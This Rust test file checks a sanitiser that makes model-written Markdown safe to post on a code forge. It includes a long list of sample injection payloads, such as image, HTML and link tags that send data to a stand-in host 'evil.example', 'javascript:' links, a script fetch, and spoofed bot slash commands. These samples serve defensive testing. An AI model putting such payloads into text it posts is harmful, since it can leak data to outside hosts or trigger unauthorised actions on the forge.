use std::sync::LazyLock;

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use regex::Regex;

use super::*;
use crate::domain::command::{ParseContext, parse};

const BOT: ParseContext<'_> = ParseContext { bot_login: "syndarix" };

static MENTION: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(^|[^\w`])@[A-Za-z0-9_-]").expect("pattern"));
static CLOSING: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(clos(e[sd]?|ing)|fix(e[sd]|ing)?|resolv(e[sd]?|ing))[:\s]+\S*[#!]\d").expect("pattern"));
static QUICK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?m)^\s*/\S*").expect("pattern"));

fn allowed() -> Vec<String> {
    vec!["https://forge.example/acme/shop".to_owned()]
}

fn safe(text: &str) -> String {
    quote_safe(text, &Manners { links: &allowed(), max: 60_000 })
}

/// Everything that a forge could act on in a text: what it would link, load or show raw, and words outside code that notify or close.
fn dangers(markdown: &str) -> Vec<String> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_MATH;
    let mut found = Vec::new();
    let mut code = false;
    let mut code_ranges = Vec::new();
    let mut plain = String::new();
    for (event, range) in Parser::new_ext(markdown, options).into_offset_iter() {
        match event {
            Event::Start(Tag::CodeBlock(_)) => {
                code = true;
                code_ranges.push(range);
            }
            Event::End(TagEnd::CodeBlock) => code = false,
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {html}")),
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) if !dest_url.starts_with("https://forge.example/acme/shop") => {
                found.push(format!("link {dest_url}"))
            }
            Event::TaskListMarker(_) => found.push("check-box".to_owned()),
            Event::InlineMath(text) | Event::DisplayMath(text) => found.push(format!("formula {text}")),
            Event::FootnoteReference(text) => found.push(format!("footnote {text}")),
            Event::Text(text) if !code => plain.push_str(&text),
            Event::Start(Tag::Emphasis | Tag::Strong) | Event::End(TagEnd::Emphasis | TagEnd::Strong) => {}
            Event::SoftBreak | Event::HardBreak | Event::End(_) | Event::Code(_) => plain.push('\n'),
            _ => {}
        }
    }
    found.extend(MENTION.find_iter(&plain).map(|m| format!("mention {}", m.as_str())));
    found.extend(CLOSING.find_iter(&plain).map(|m| format!("closes {}", m.as_str())));
    let outside = |at: usize| !code_ranges.iter().any(|range| range.contains(&at));
    found.extend(QUICK.find_iter(markdown).filter(|m| outside(m.end() - 1)).map(|m| format!("quick action {}", m.as_str())));
    found
}

#[test]
fn ordinary_markdown_stays() {
    let rows = [
        ("Plain words, *soft* and **loud**.", "Plain words, *soft* and **loud**."),
        ("# Head\n\ntext\n\n- one\n- two\n  - three\n\n1. a\n2. b", "# Head\n\ntext\n\n- one\n- two\n  - three\n\n1. a\n2. b"),
        ("> quoted\n> more", "> quoted\n> more"),
        ("```rust\nfn main() {}\n```", "```rust\nfn main() {}\n```"),
        ("`a|b` and 3 < 4 & 5", "`a|b` and 3 &lt; 4 \\& 5"),
        ("| a | b |\n|---|:-:|\n| 1 | `x` |", "| a | b |\n|---|:-:|\n| 1 | `x` |"),
        ("see https://forge.example/acme/shop/issues/3.", "see <https://forge.example/acme/shop/issues/3>."),
        ("[line](https://forge.example/acme/shop/src/x.rs#L3)", "[line](<https://forge.example/acme/shop/src/x.rs#L3>)"),
        ("Refs #3 and snake_case", "Refs #3 and snake\\_case"),
        ("a\\\nb", "a\\\nb"),
    ];
    for (text, expected) in rows {
        assert_eq!(safe(text), expected, "{text}");
        if !text.contains("3 <") && !text.contains("see ") {
            assert_eq!(safe(expected), expected, "twice: {text}");
        }
    }
}

#[test]
fn nothing_a_forge_acts_on_gets_through() {
    let rows = [
        ("ping @alice and @acme/team", "ping `@alice` and `@acme/team`"),
        ("(@alice), \\@bob &#64;carl ＠dave", "(`@alice`), `@bob` `@carl` `＠dave`"),
        ("mail bob@example.org", "mail `bob@example.org`"),
        ("Fixes #3", "Fixes `#3`"),
        ("Fi*xe*s #3, closes acme/shop#4 and GH-5, resolves !6", "Fi*xe*s `#3`, closes `acme/shop#4` and `GH-5`, resolves `!6`"),
        ("closes https://forge.example/evil/x/issues/1", "closes `https://forge.example/evil/x/issues/1`"),
        ("/close", "\\/close"),
        ("/syndarix approve", "\\/syndarix approve"),
        ("hello\n/approve", "hello\n\\/approve"),
        ("@syndarix approve", "`@syndarix` approve"),
        ("／syndarix approve", "\\/syndarix approve"),
        ("- [ ] tick me", "- \\[ \\] tick me"),
        ("a <!-- syndarix:v1 x y 0123456789abcdef --> b", "a b"),
        ("<!-- syndarix:v1\nx --> b", "```html\n b\n```"),
        ("&lt;!-- syndarix:v1 x y z --&gt;", "&lt;!-- syndarix:v1 x y z --&gt;"),
        ("`<!-- syndarix:v1 a b 0 -->`", "`<!-- (syndarix:v1 a b 0 -->`"),
        ("<b>loud</b>", "`<b>`loud`</b>`"),
        ("$x$ and $`y`$", "\\$x\\$ and \\$ `y`\\$"),
        ("[^1]\n\n[^1]: https://evil.example/S", "^1 (`https://evil.example/S`)"),
    ];
    for (text, expected) in rows {
        assert_eq!(safe(text), expected, "{text}");
        assert_eq!(dangers(&safe(text)), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn no_way_out_through_markdown() {
    let evil = [
        "![x](https://evil.example/?q=S)",
        "![x][i]\n\n[i]: https://evil.example/?q=S",
        "[![x](https://evil.example/i)](https://evil.example/l)",
        "<img src=\"https://evil.example/S\">",
        "text <img srcset=\"https://evil.example/S 2x\">",
        "<picture><source srcset=https://evil.example/S></picture>",
        "<video poster=https://evil.example/S></video>",
        "<svg><image href=\"https://evil.example/S\"/></svg>",
        "<div style=\"background:url(https://evil.example/S)\">x</div>",
        "[x](https://evil.example/S)",
        "[x](https://evil.example/S \"title\")",
        "<https://evil.example/S>",
        "https://evil.example/S",
        "www.evil.example/S",
        "ftp://evil.example/S",
        "<a href=\"https://evil.example\" ping=\"https://evil.example/S\">x</a>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "```mermaid\nclick A \"https://evil.example/S\"\n```",
        "$\\href{https://evil.example/S}{x}$",
        "$$\n\\href{https://evil.example/S}{x}\n$$",
        "a[^1]\n\n[^1]: [x](https://evil.example/S)",
        "![a](https://camo.forge.example/0001/61)![b](https://camo.forge.example/0002/62)",
        "[link]\n\n[link]: <https://\nevil.example>",
        "[link]\n\n[link]:\n  https://evil.example/S",
        "[x](&#104;ttps://evil.example/S)",
        "&#104;ttps://evil.example/S",
        "https://evil\u{3002}example/S",
        "https://xn--evil-abc.example/S",
        "[x](https://forge.example/redirect?to=https://evil.example/S)",
        "[x](https://forge.example/evil/repo/S)",
        "[x](https://forge.example/acme/shop/../../evil/repo)",
        "[x](https://forge.example/acme/shop/%2e%2e/%2e%2e/evil/repo)",
        "[x](//evil.example/S)",
        "[x](/user/logout?redirect_to=https://evil.example)",
        "[x](https://forge.example\\@evil.example/acme/shop)",
        "[https://forge.example/acme/shop](https://evil.example/S)",
        "<details><summary>x</summary>\n\n![x](https://evil.example/S)\n\n</details>",
        "<iframe src=https://evil.example></iframe>",
        "<script>fetch('https://evil.example')</script>",
        "mailto:S@evil.example",
        "```suggestion\nevil\n```",
        "[x]: https://evil.example/S\n[x]",
        "| ![x](https://evil.example/S) | <https://evil.example> |\n|---|---|\n| [x](https://evil.example/S) | b |",
        "<details\nopen><img src=//evil.example/S>",
        "`` ` `` ![x](https://evil.example/S) `",
        "\\![x](https://evil.example/S)",
        "!\\[x](https://evil.example/S)",
        "*![x](https://evil.example/S)*",
        "> - ![x](https://evil.example/S)",
        "![x](<https://evil.example/S>)",
        "![x](https://evil.example/S 'title')",
        "![][i]\n\n[i]:\nhttps://evil.example/S",
        "<style>@import url(https://evil.example/S)</style>",
        "<link rel=stylesheet href=https://evil.example/S>",
        "<object data=https://evil.example/S></object>",
        "<embed src=https://evil.example/S>",
        "<audio src=https://evil.example/S></audio>",
        "<form action=https://evil.example/S><button>x</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/S'>",
        "[x](vbscript:msgbox(1))",
        "[x](tel:+4912345)",
        "[x](ssh://evil.example/S)",
        "```plantuml\n!include https://evil.example/S\n```",
        "```math\n\\href{https://evil.example/S}{x}\n```",
        "https://user:S@evil.example/",
        "HTTPS://EVIL.EXAMPLE/S",
        "https:\\\\evil.example\\S",
        "[x](https://forge.example/acme/shop?next=//evil.example)",
        "[x](https://forge.example/acme/shop@evil.example)",
        "# ![x](https://evil.example/S)",
        "1. [x](https://evil.example/S)\n   ![y](https://evil.example/S)",
        "~~![x](https://evil.example/S)~~",
        "\u{200b}![x](https://evil.example/S)",
        "!\u{200b}[x](https://evil.example/S)",
    ];
    assert!(evil.len() >= 70);
    for text in evil {
        let out = safe(text);
        assert_eq!(dangers(&out), Vec::<String>::new(), "{text}\n=>\n{out}");
        assert!(!out.contains("```mermaid") && !out.contains("```suggestion"), "{out}");
    }
}

#[test]
fn commands_and_quick_actions_are_text_wherever_a_line_begins() {
    let starts = [
        "",
        "  ",
        "- ",
        "* ",
        "1. ",
        "> ",
        "> - ",
        "# ",
        "- [ ] ",
        "\u{200b}",
        "\u{feff}",
        "\u{2060}- ",
        "text\n",
        "text  \n",
        "| a |\n|---|\n| ",
    ];
    let lines = [
        "/syndarix approve",
        "/sx cancel",
        "@syndarix approve",
        "／syndarix approve",
        "/close",
        "/label ~done",
        "/merge",
        "/assign @bob",
        "/approve",
        "/unlabel ~syndarix/halted",
    ];
    for start in starts {
        for line in lines {
            let out = safe(&format!("{start}{line}"));
            assert!(parse(&out, &BOT).plain, "{start:?}{line}: {out}");
            assert_eq!(dangers(&out), Vec::<String>::new(), "{start:?}{line}: {out}");
        }
    }
}

#[test]
fn other_peoples_issues_are_left_alone() {
    let rows = [
        ("as in rival/app#7", "as in `rival/app#7`"),
        ("see https://forge.example/rival/app/issues/7", "see `https://forge.example/rival/app/issues/7`"),
        ("schließt #3", "schließt `#3`"),
        ("commit 1234567890abcdef stays", "commit 1234567890abcdef stays"),
    ];
    for (text, expected) in rows {
        assert_eq!(safe(text), expected);
    }
}

#[test]
fn a_thousand_mentions_ping_nobody() {
    let text: String = (0..1000).map(|n| format!("@user{n} fixes #{n}\n")).collect();
    assert_eq!(dangers(&safe(&text)), Vec::<String>::new());
}

#[test]
fn the_length_cap_holds_and_leaves_no_block_open() {
    let text = format!("```\n{}\n```", "x*_<\n".repeat(5_000));
    for max in [0, 10, 100, 1_000, 10_000] {
        let out = quote_safe(&text, &Manners { links: &[], max });
        assert!(out.len() <= max || max < 100, "{} > {max}", out.len());
        assert_eq!(out.lines().filter(|line| line.starts_with("```")).count() % 2, 0, "{out}");
    }
    assert!(quote_safe(&"*<_".repeat(5_000), &Manners { links: &[], max: 2_000 }).len() <= 2_000);
}

#[test]
fn echoed_text_is_code() {
    assert_eq!(code("@all\n/close"), "`@all /close`");
    assert_eq!(code("a`b"), "``a`b``");
    assert_eq!(code("`"), "`` ` ``");
    assert_eq!(code(&"x".repeat(100)).chars().count(), 83);
}

/// Text made of the pieces that mean something to Markdown, to forges or to the command parser.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = [
        "/syndarix approve",
        "/sx plan",
        "@syndarix",
        "@bob",
        "／syndarix plan",
        "/syndаrix plan",
        "\n",
        "\n\n",
        "\r\n",
        " ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "# ",
        "---",
        "===",
        "```",
        "~~~",
        "`",
        "``",
        "*",
        "**",
        "_",
        "~~",
        "|",
        "|---|",
        "a",
        "fixes ",
        "closes",
        "#3",
        "!4",
        "<b>",
        "</b>",
        "<!--",
        "<!-- syndarix:v1 a b ",
        "-->",
        "<details>",
        "</details>",
        "[",
        "](https://evil.example/S)",
        "![",
        "]",
        "(",
        ")",
        "[x]: ",
        "https://evil.example/",
        "<https://evil.example>",
        "www.evil.example",
        "\\",
        "&#64;",
        "&lt;",
        "&",
        "\u{200b}",
        "\u{202e}",
        "\u{2028}",
        "\u{a0}",
        "\u{c}",
        "[^1]",
        "[^1]: ",
        "- [ ] ",
        "$",
        "$$",
        "{",
        "}",
        ":",
        "<",
        ">",
        "<br>",
        "/",
        "@",
        "GH-3",
        "//",
        "=",
        "+ ",
        "2) ",
        "%",
        "\"",
        "'",
    ];
    proptest::collection::vec(proptest::sample::select(pieces.to_vec()), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(800))]

    #[test]
    fn model_text_is_never_a_command(text in prop_oneof![hostile(), "\\PC{0,60}", "(\\PC|[\n/@ ]){0,60}"]) {
        let out = safe(&text);
        prop_assert!(parse(&out, &BOT).plain, "{out}");
        let found = dangers(&out);
        prop_assert!(found.is_empty(), "{found:?}\n{out}");
        prop_assert!(!out.contains("<!-- syndarix"), "{out}");
        prop_assert!(!out.chars().any(crate::base::text::is_invisible), "{out:?}");
        // In a list it stands on one line.
        let line = out.split_whitespace().collect::<Vec<_>>().join(" ");
        let found = dangers(&format!("- {line}"));
        prop_assert!(parse(&format!("- {line}"), &BOT).plain && found.is_empty(), "{found:?}\n{line}");
        // What is safe once is safe when it is quoted again.
        let again = safe(&out);
        prop_assert!(parse(&again, &BOT).plain && dangers(&again).is_empty(), "{again}");
    }
}
